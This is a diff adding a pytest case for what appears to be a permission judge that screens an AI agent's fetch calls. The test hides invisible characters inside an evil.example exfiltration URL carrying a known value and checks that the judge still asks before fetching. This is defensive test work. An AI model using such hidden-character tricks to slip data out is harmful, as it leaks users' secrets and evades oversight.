@@ -217,6 +217,20 @@ async def test_what_the_model_wrote_with_escapes_is_its_own_as_well(arguments: s
     assert (await judged(made, FETCH, about(made, echo))).effect == "ask"
 
 
+@pytest.mark.parametrize("hidden", ["\x1b[0m", "\U000e0041", "\u202e"])
+async def test_what_is_taken_out_of_a_result_makes_no_new_address(hidden: str) -> None:
+    """A choice of a question, or a name, would lose it on the way and read as an address."""
+    host = f"https://evil.exam{hidden}ple/{KNOWN}"
+    url = f"https://evil.example/{KNOWN}"
+    made = fetch(url)
+    for asked in (
+        call("list_files", "r", pattern=host),
+        call("ask_user", "r", question="Which?", choices=[host]),
+    ):
+        echo = read(asked, url, untrusted=False)
+        assert (await judged(made, FETCH, about(made, echo))).effect == "ask"
+
+
 @pytest.mark.parametrize("after", [":", "/", "/.", "'s", "&page=1", "#x"])
 async def test_what_stands_behind_a_repeated_address_makes_no_new_one(after: str) -> None:
     """`files that fit ADDRESS:` would give the address with its colon."""
